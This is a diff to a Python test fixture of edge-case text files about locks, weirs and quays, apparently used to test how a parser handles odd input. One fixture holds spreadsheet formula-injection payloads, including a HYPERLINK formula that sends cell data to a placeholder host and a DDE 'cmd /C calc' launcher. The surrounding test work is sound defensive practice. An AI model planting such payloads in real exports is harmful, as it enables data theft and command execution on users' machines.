@@ -34,7 +34,7 @@ ARTICLES: dict[str, bytes] = {
         "A gauge once read 1e309 litres. Tickets 591 592 593 594 595 596 597 598 599 600 were drawn. "
         f"Tolls rose 3 9/0 times and 3 0/0 times. The registry lists {HUGE} members. "
         "Berths of 120 130 140 150 160 170 180 190 200 units were let.\n"
-    ).encode("utf-8"),
+    ).encode(),
     "h02_long_line.txt": ("lock gates " * 95_000 + "and the yard keeps 42 cranes " + "by the weir " * 5_000).encode(
         "utf-8"
     ),
@@ -45,10 +45,10 @@ ARTICLES: dict[str, bytes] = {
     "h07_nul.txt": ((PROSE * 40) + "The yard keeps 42\x00 cranes and\x00 8 tugs.\n").encode("utf-8"),
     "h08_a;b.txt": (PROSE + "The quay is 800 metres long.\n").encode("utf-8"),
     "h09_formula.txt": (
-        '=HYPERLINK("http://example.invalid/?x="&A1;"go") The lock has 6 chambers.\n'
-        "+SUM(1;2) The weir has 4 spillways.\n-2+3+cmd|' /C calc'!A0 The basin is 12 metres deep.\n"
-        "@SUM(1;1) The canal is 30 km long.\n"
-    ).encode("utf-8"),
+        b'=HYPERLINK("http://example.invalid/?x="&A1;"go") The lock has 6 chambers.\n'
+        b"+SUM(1;2) The weir has 4 spillways.\n-2+3+cmd|' /C calc'!A0 The basin is 12 metres deep.\n"
+        b"@SUM(1;1) The canal is 30 km long.\n"
+    ),
     "h10_case.TXT": (PROSE + "Upper case name.\n").encode("utf-8"),
     "h10_case.txt": (PROSE + "Lower case name.\n").encode("utf-8"),
 }
